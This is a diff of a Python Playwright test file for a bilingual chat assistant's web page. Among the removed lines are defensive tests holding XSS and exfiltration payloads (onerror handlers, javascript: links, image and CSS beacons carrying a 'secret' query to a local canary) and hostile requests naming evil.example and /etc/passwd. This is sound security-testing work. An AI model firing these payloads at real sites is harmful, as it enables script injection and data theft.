@@ -1,169 +1,31 @@
-"""The page in a real browser, over the real index: what a person sees and does, and what nobody else hears."""
+"""The page in a real browser, over the real index: what a person sees and does."""
 
 from __future__ import annotations
 
 import contextlib
 import json
-import os
-import re
-import shutil
-import socket
-import subprocess
-import sys
-import threading
 import time
-import urllib.request
-from collections.abc import Iterator
-from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
-from urllib.error import HTTPError, URLError
 
 import pytest
 
-from assistant.home import Home
-from index.generation import Generation
-from tests.doubles import ScriptedHandler, says, scripted_server
+from tests.doubles import ScriptedHandler, scripted_server
+from tests.visits import (
+    EN,
+    LAST_QUESTION_STANDS_ON_TOP,
+    NOTES,
+    ZH,
+    Visit,
+    browser,
+    page_home,
+    page_served,
+    page_url,
+    visit,
+)  # fmt: skip
 
-ROOT = Path(__file__).parent.parent
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
-ZH, EN = "怎样控制大模型创业的成本？", "How does quantization cut serving cost?"
-NOTES = "# 董事会纪要\n\n## 预算\n\n红隼项目的预算是 417,000 欧元，到 2027 年 5 月结束。\n"
-
-# Buttons and links that a screen reader could not name.
-NAMELESS = """elements => elements.filter(e => e.offsetParent && !(e.ariaLabel || e.title || e.innerText.trim()))
-    .map(e => e.outerHTML)"""
-
-# An answer is read from its beginning: the end of a long one does not push it out of sight.
-LAST_QUESTION_STANDS_ON_TOP = """() => {
-    const top = element => element.getBoundingClientRect().top;
-    const pane = document.querySelector('#chat .bubble-wrap'), last = [...pane.querySelectorAll('.user')].at(-1);
-    return Math.abs(top(last) - top(pane)) < 40 || pane.scrollTop + pane.clientHeight >= pane.scrollHeight - 1;
-}"""
-
-LEAVING = re.compile("AbortError|Connection errored out")
-
+__all__ = ["browser", "page_home", "page_url", "visit"]  # fixtures
 pytestmark = pytest.mark.browser
-
-
-@contextmanager
-def page_served(home: Path, *options: str, **environment: str) -> Iterator[str]:
-    with socket.socket() as free:
-        free.bind(("127.0.0.1", 0))
-        port = free.getsockname()[1]
-    command = [sys.executable, "-m", "assistant.interfaces.cli", "chat", "--port", str(port), "--no-browser"]
-    server = subprocess.Popen(
-        [*command, "--home", str(home), *options], cwd=ROOT, stderr=subprocess.PIPE, env={**os.environ, **environment}
-    )
-    url = f"http://127.0.0.1:{port}"
-    try:
-        for _ in range(240):
-            try:
-                urllib.request.urlopen(f"{url}/healthz", timeout=2).close()
-                break
-            except (URLError, OSError):
-                assert server.poll() is None, server.stderr.read().decode() if server.stderr else ""
-                time.sleep(0.25)
-        yield url
-    finally:
-        server.terminate()
-        server.wait(30)
-        if server.stderr:
-            server.stderr.close()
-
-
-@pytest.fixture(scope="module")
-def page_home(shared_home: Home, generation: Generation, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A home of these tests' own with the shipped collection, already indexed."""
-    home = tmp_path_factory.mktemp("page") / "home"
-    shutil.copytree(shared_home.folder / "collections" / "default", home / "collections" / "default")
-    (home / "models").symlink_to(shared_home.models)
-    return home
-
-
-@pytest.fixture(scope="module")
-def page_url(page_home: Path) -> Iterator[str]:
-    with page_served(page_home, "--backend", "extractive") as url:
-        yield url
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    if CHROMIUM is None:
-        pytest.skip("no Chromium on this machine (Debian: apt-get install chromium)")
-    playwright = pytest.importorskip("playwright.sync_api")
-    with playwright.sync_playwright() as session:
-        chromium = session.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        yield chromium
-        chromium.close()
-
-
-class Visit:
-    """A visitor of the page in one language, who notes every error and every host."""
-
-    def __init__(self, browser: Any, url: str, *, locale: str = "zh-CN", width: int = 1440, height: int = 900) -> None:
-        self.context = browser.new_context(viewport={"width": width, "height": height}, locale=locale)
-        self.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url)
-        self.page = self.context.new_page()
-        self.problems: list[str] = []
-        self.hosts: set[str] = set()
-        # Leaving a page ends its requests, which Gradio logs.
-        self.page.on(
-            "console",
-            lambda m: self.problems.append(m.text) if m.type == "error" and not LEAVING.search(m.text) else None,
-        )
-        self.page.on("pageerror", lambda error: self.problems.append(str(error)))
-        self.page.on("request", lambda r: self.hosts.add(r.url.split("/")[2]) if r.url.startswith("http") else None)
-        self.open(url)
-
-    def open(self, url: str) -> None:
-        """Go there and wait until the page is connected: the first event has answered."""
-        self.page.goto(url)
-        self.page.wait_for_selector("#question textarea")
-        self.page.wait_for_selector("#health p")
-
-    def ask(self, question: str) -> None:
-        """Type a question and wait for its answer."""
-        self.page.fill("#question textarea", question)
-        self.page.keyboard.press("Enter")
-        self.answered(question)
-
-    def answered(self, question: str) -> None:
-        """Wait until the last turn is `question` and complete: only then what could be asked next is there."""
-        self.page.wait_for_function(
-            "q => [...document.querySelectorAll('#chat .user')].at(-1)?.innerText.includes(q.slice(0, 30)) &&"
-            " document.querySelector('#chat .option')", arg=question, timeout=30_000
-        )  # fmt: skip
-
-    def bot(self) -> str:
-        """The last answer."""
-        return str(self.page.locator("#chat [data-testid=bot]").last.inner_text())
-
-    def click_and_say(self, selector: str, said: str | None) -> None:
-        """Click, and answer what the browser then asks: None says no."""
-        asked: list[Any] = []
-        self.page.once("dialog", lambda d: asked.append(d.dismiss() if said is None else d.accept(said)))
-        self.page.click(selector)
-        for _ in range(500):
-            if asked:
-                return
-            self.page.wait_for_timeout(20)
-        pytest.fail(f"{selector} asked nothing")
-
-    def tab(self, name: str) -> None:
-        """Open a tab."""
-        self.page.get_by_role("tab", name=name).click()
-
-
-@pytest.fixture
-def visit(browser: Any, page_url: str) -> Iterator[Visit]:
-    visit = Visit(browser, page_url)
-    yield visit
-    assert visit.problems == []
-    assert visit.hosts == {page_url.split("/")[2]}
-    visit.context.close()
 
 
 @pytest.mark.parametrize(
@@ -342,72 +204,6 @@ def test_the_other_language_shows_the_same_conversation_and_is_remembered(visit:
     assert visit.page.inner_text("#send") == "Ask"
 
 
-class _Listens(BaseHTTPRequestHandler):
-    def do_GET(self) -> None:
-        self.server.heard.append(self.path)  # type: ignore[attr-defined]
-        self.send_response(204)
-        self.end_headers()
-
-    def log_message(self, format: str, *args: object) -> None:
-        """Keep quiet."""
-
-
-@contextmanager
-def canary() -> Iterator[tuple[str, list[str]]]:
-    """An address that must hear nothing."""
-    server = ThreadingHTTPServer(("127.0.0.1", 0), _Listens)
-    server.daemon_threads = True
-    server.heard = []  # type: ignore[attr-defined]
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_port}", server.heard  # type: ignore[attr-defined]
-    finally:
-        server.shutdown()
-        server.server_close()
-        thread.join()
-
-
-ATTACKS = """Quantization cuts serving cost by storing each weight in fewer bits. ![x]({url}/md?q=secret)
-![y][r] <img src=x onerror="window.hit=1"><img srcset="{url}/srcset 1x"> <svg onload="window.hit=1"></svg>
-<form action="{url}/form"><input type=password></form><div style="position:fixed;background:url({url}/css)">over</div>
-<video poster="{url}/poster"></video> <script>window.hit=1</script> [click](javascript:window.hit=1) <{url}/auto>
-```mermaid
-click A "javascript:window.hit=1"
-```
-[1](#s-1-1) $$\\href{{javascript:window.hit=1}}{{x}}$$
-
-[r]: {url}/reference.png
-"""
-
-
-# What none of the answers, questions or sources may hold.
-LIVE = ("img", "svg image", "form", "input", "video", "script", "iframe", "[style*=fixed]", ".katex")
-
-
-def test_what_a_model_or_an_asker_writes_does_nothing_and_calls_nobody(browser: Any, page_home: Path) -> None:
-    with (
-        canary() as (url, heard),
-        scripted_server(says(ATTACKS.format(url=url))) as (model, _),
-        page_served(page_home, "--backend", "vllm", ASSISTANT_BASE_URL=model) as page_url,
-    ):
-        visit = Visit(browser, page_url, locale="en-US")
-        visit.ask(" ".join(ATTACKS.format(url=url).split()))
-        visit.ask(EN)
-        for _ in range(2):
-            for writer in ("user", "bot"):
-                visit.page.wait_for_selector(f"#chat [data-testid={writer}] >> text=onerror")
-            for tag in LIVE:
-                assert visit.page.locator(f"#chat [data-testid] {tag}, #sources {tag}").count() == 0, tag
-            links = visit.page.eval_on_selector_all("#chat [data-testid] a, #sources a", "e => e.map(a => a.hash)")
-            assert all(link.startswith("#s-") for link in links)
-            assert visit.page.evaluate("window.hit") is None
-            visit.page.reload()
-        assert visit.hosts == {page_url.split("/")[2]}
-        visit.context.close()
-    assert heard == []
-
-
 def dawdles(handler: ScriptedHandler, body: dict[str, Any]) -> None:
     """Write a sentence, then on and on."""
     handler.begin_stream()
@@ -440,48 +236,3 @@ def test_a_stopped_answer_is_kept_as_far_as_it_came(browser: Any, page_home: Pat
         visit.page.wait_for_selector("#chat [data-testid=bot] >> text=This answer was not finished")
         assert "fewer bits." in visit.bot()
         visit.context.close()
-
-
-@pytest.mark.parametrize(
-    ("path", "headers", "body", "status"),
-    [
-        ("/", {"Host": "evil.example"}, None, 400),
-        ("/en/gradio_api/file=https://example.org/", {}, None, 403),
-        ("/zh/gradio_api/file=/etc/passwd", {}, None, 403),
-        ("/en/gradio_api/file=corpus/papers.toml", {}, None, 403),
-        ("/zh/openapi.json", {}, None, 403),
-        ("/en/gradio_api/run/ask", {"Content-Type": "application/json"}, b'{"data": ["cost?", ""]}', 403),
-        ("/zh/gradio_api/queue/join", {"Origin": "https://evil.example"}, b"{}", 403),
-    ],
-)
-def test_what_is_not_for_the_page_is_closed(
-    page_url: str, path: str, headers: dict[str, str], body: bytes | None, status: int
-) -> None:
-    with pytest.raises(HTTPError) as caught:
-        urllib.request.urlopen(urllib.request.Request(page_url + path, body, headers), timeout=10)
-    caught.value.close()
-    assert caught.value.code == status
-
-
-def test_headers_keep_foreign_content_out(page_url: str) -> None:
-    request = urllib.request.Request(page_url, headers={"Origin": "https://evil.example"})
-    with urllib.request.urlopen(request, timeout=10) as response:
-        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
-        assert response.headers["X-Content-Type-Options"] == "nosniff"
-        assert "Access-Control-Allow-Origin" not in response.headers
-
-
-def test_a_connection_that_never_asks_is_closed(page_url: str) -> None:
-    host, port = page_url.removeprefix("http://").split(":")
-    with socket.create_connection((host, int(port)), timeout=30) as silent:
-        assert silent.recv(1) == b""
-
-
-def test_a_huge_body_is_refused(page_url: str) -> None:
-    body = b"x" * (3 * 2**20)
-    request = urllib.request.Request(f"{page_url}/en/gradio_api/queue/join", body, method="POST")
-    with pytest.raises((HTTPError, URLError, ConnectionError)) as caught:
-        urllib.request.urlopen(request, timeout=20)
-    if isinstance(caught.value, HTTPError):
-        caught.value.close()
-        assert caught.value.code == 413
